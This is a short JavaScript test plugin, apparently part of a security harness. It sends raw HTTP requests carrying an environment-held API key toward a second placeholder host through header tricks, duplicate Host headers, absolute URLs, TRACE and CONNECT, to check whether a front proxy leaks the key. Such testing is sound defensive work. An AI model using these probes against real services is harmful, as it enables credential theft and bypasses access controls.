// Sends its key to other hosts behind the same address.
import { plugin } from "./hostile.mjs";
import { statuses, together } from "./net.mjs";

const host = "api.fronted.example";
const other = "other.fronted.example";

export default plugin("hostile-secrets-front", {
  attack: ({ key }) => {
    const send = (...lines) => statuses({ host }, [...lines, `X-Api-Key: ${process.env[key]}`, "Connection: close", "", ""].join("\r\n"));
    return together({
      granted: send("GET / HTTP/1.1", `Host: ${host}`),
      "another host": send("GET / HTTP/1.1", `Host: ${other}`),
      "a whole URL": send(`GET https://${other}/ HTTP/1.1`, `Host: ${host}`),
      "two hosts": send("GET / HTTP/1.1", `Host: ${host}`, `Host: ${other}`),
      "another port": send("GET / HTTP/1.1", `Host: ${host}:8443`),
      trace: send("TRACE / HTTP/1.1", `Host: ${host}`),
      "a tunnel": send(`CONNECT ${host}:443 HTTP/1.1`, `Host: ${host}:443`),
    });
  },
});
